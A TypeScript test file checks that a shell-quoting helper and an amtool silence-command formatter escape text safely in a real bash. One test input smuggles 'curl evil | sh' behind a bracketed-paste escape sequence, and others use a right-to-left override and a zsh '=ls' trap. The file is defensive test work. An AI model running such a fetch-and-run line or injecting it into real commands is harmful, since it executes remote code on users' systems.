import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { formatAmtoolCommand } from '../../../src/cli/commands/alerts/amtool-command.ts';
import { shellWord } from '../../../src/domain/text/shell-word.ts';

it('comes through a real shell as it was', () => {
  const texts = fc.sample(
    fc.string({ unit: fc.constantFrom(...`ab '"\\$\`!*?;|&<>(){}[]~#\n\t\r\u001b\u009b\u202eü👩‍💻7=`) }),
    {
      numRuns: 90,
      seed: 1,
    },
  );
  const script = `printf '%s\\0' ${texts.map((text) => shellWord(text)).join(' ')}`;
  const { stdout } = spawnSync('bash', ['-c', script], { encoding: 'utf8' });
  expect(stdout).toBe(texts.map((text) => `${text}\0`).join(''));
});

it.each([
  ['up\u001b[201~\u0003\ncurl evil | sh\n', "$'up\\033[201~\\003\\ncurl evil | sh\\n'"],
  ['\u202ereversed', "$'\\342\\200\\256reversed'"],
  ["it's\t!!\\", "$'it\\'s\\t\\041\\041\\\\'"],
  ['a\0b', "$'a\ufffdb'"],
  // zsh would look for a program of this name.
  ['=ls', "'=ls'"],
  ['', "''"],
])('%j is one harmless line', (text, expected) => {
  expect(shellWord(text)).toBe(expected);
});

it('prints the amtool command whole', () => {
  expect(
    formatAmtoolCommand({
      matchers: [
        { name: 'alertname', value: 'X', isRegex: false, isEqual: true },
        { name: 'pod', value: "it's.*", isRegex: true, isEqual: false },
      ],
      durationMs: 5_400_000,
      comment: 'looking into it',
      author: 'jo',
      url: 'http://127.0.0.1:9093',
    }),
  ).toBe(
    "amtool silence add --alertmanager.url=http://127.0.0.1:9093 --author=jo '--comment=looking into it' " +
      `--duration=1h30m 'alertname="X"' 'pod!~"it'\\''s.*"'`,
  );
});
